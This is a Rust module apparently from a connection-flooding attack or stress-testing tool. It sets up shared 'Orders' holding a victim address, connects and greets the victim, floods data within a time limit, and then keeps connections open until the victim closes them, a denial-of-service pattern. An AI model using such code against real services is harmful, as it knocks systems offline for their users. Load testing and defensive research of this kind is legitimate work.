//! What every connection of an assault knows, and what all of them do.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use super::peer::{Peer, Reading, Record};
use crate::attack::Scale;

/// How long a peer may take to send what it has to send. A victim that reads no more holds it up,
/// which is a defence like others.
pub(super) const SENDING_LIMIT: Duration = Duration::from_secs(20);

/// What every connection of an assault knows.
#[derive(Debug, Clone)]
pub(super) struct Orders {
    pub(super) victim: SocketAddr,
    pub(super) scale: Scale,
    pub(super) record: Arc<Record>,
}

impl Orders {
    /// A connection after its Hello.
    pub(super) async fn greeted(&self, hello: &[u8], reading: Reading) -> std::io::Result<Peer> {
        let mut peer = Peer::connect(self.victim, reading, &self.record).await?;
        match peer.greet(hello).await {
            Ok(()) => Ok(peer),
            Err(error) => {
                peer.count_closed();
                Err(error)
            }
        }
    }

    /// Sends in bounded time, and then stays until the victim closes.
    pub(super) async fn send_and_stay(
        &self,
        mut peer: Peer,
        parts: impl Iterator<Item = Vec<u8>>,
    ) -> Option<Peer> {
        let sending = async {
            for part in parts {
                peer.flood(&part).await?;
            }
            Ok::<_, std::io::Error>(())
        };
        match tokio::time::timeout(SENDING_LIMIT, sending).await {
            Ok(Err(_)) => {
                peer.count_closed();
                None
            }
            Ok(Ok(())) | Err(_) => Some(peer),
        }
    }
}
